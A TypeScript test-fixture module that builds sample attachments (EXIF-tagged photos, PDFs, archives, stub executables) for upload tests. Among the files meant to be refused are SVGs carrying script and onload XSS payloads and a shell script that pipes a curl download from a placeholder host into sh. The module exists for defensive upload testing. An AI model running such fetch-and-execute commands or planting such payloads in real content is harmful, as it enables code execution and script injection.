import { gzipSync } from "node:zlib";
import { zip } from "./zip";
import { PDFDocument, PDFName, StandardFonts } from "pdf-lib";
import sharp from "sharp";

/**
 * Files for the attachment suites, made here rather than committed (the one exception, a HEIC photo, is in
 * tests/fixtures/attachments/ with its origin): photos drawn with sharp, PDFs written with pdf-lib, and the files an
 * upload must refuse.
 */

/** Pixels no encoder can squeeze much (a photo's grain), from a seeded generator so every run draws the same. */
export function noise(width: number, height: number, channels: 3 | 4 = 3, seed = 1): Buffer {
  const data = Buffer.alloc(width * height * channels);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < data.length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    // A gradient under the grain, so that resizing and rotating have something to keep.
    data[i] = ((x >>> 0) % 64) + ((Math.floor(i / channels) % width) * 191) / width;
  }
  return data;
}

const photo = (width: number, height: number, channels: 3 | 4 = 3) => sharp(noise(width, height, channels), { raw: { width, height, channels } });

/**
 * A camera's JPEG: 400 × 200 as stored, with EXIF saying "turn 90° clockwise to view" (orientation 6), the camera's
 * make and a GPS position (Jinan: 36°39′N 117°E), as a phone writes them.
 */
export async function cameraJpeg(): Promise<Buffer> {
  return photo(400, 200)
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: { Make: "AmityCam", Model: "Test 1" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "36/1 39/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "117/1 0/1 0/1" },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

export const pngPhoto = (width = 700, height = 500) => photo(width, height, 4).png().toBuffer();
export const webpPhoto = (width = 1200, height = 800) => photo(width, height).webp({ quality: 85 }).toBuffer();
export const jpegPhoto = (width = 1800, height = 1200) => photo(width, height).jpeg({ quality: 85 }).toBuffer();

/** Whether EXIF data holds a GPS directory (tag 0x8825, in either byte order). */
export function hasGpsTag(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  return exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
}

/** A PDF of `pages` pages, a delegation's programme. */
export async function programmePdf(pages = 3): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let i = 1; i <= pages; i++) document.addPage([595, 842]).drawText(`Programme, day ${i}`, { x: 50, y: 780, font, size: 18 });
  return document.save();
}

/** A PDF whose trailer says it is encrypted (the standard security handler), as a password-protected scan's does. */
export async function encryptedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  const context = document.context;
  const encrypt = context.obj({ Filter: "Standard", V: 2, R: 3, Length: 128, P: -3904 });
  context.trailerInfo.Encrypt = context.register(encrypt);
  context.trailerInfo.ID = context.obj([PDFName.of("A"), PDFName.of("B")]);
  return document.save({ useObjectStreams: false });
}

/** A ZIP archive with one text file (tests/support/zip.ts writes it). */
export const zipArchive = (): Buffer => Buffer.from(zip({ "notes.txt": "Delegation notes\n" }));

export const gzipFile = () => gzipSync(Buffer.from("a,b\n1,2\n"));

/** The first bytes of a Linux program (ELF, 64-bit, x86-64), padded as a real one would be. */
export function elfProgram(): Buffer {
  const b = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16);
  b.writeUInt16LE(0x3e, 18);
  return b;
}

/** The first bytes of a Windows program: "MZ", the DOS stub's header, and the PE signature it points to. */
export function windowsProgram(): Buffer {
  const b = Buffer.alloc(256);
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(0x80, 0x3c);
  b.write("PE\0\0", 0x80, "latin1");
  b.writeUInt16LE(0x8664, 0x84);
  return b;
}

/** The first bytes of a macOS program (Mach-O, 64-bit). */
export function macProgram(): Buffer {
  const b = Buffer.alloc(64);
  b.writeUInt32LE(0xfeedfacf, 0);
  b.writeUInt32LE(0x01000007, 4);
  return b;
}

export const svgDrawing = () =>
  Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>\n`);
export const bareSvg = () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)"><circle r="4"/></svg>`);
export const shellScript = () => Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
export const plainText = () => Buffer.from("Minutes of the meeting with the delegation from Vantaa.\n");
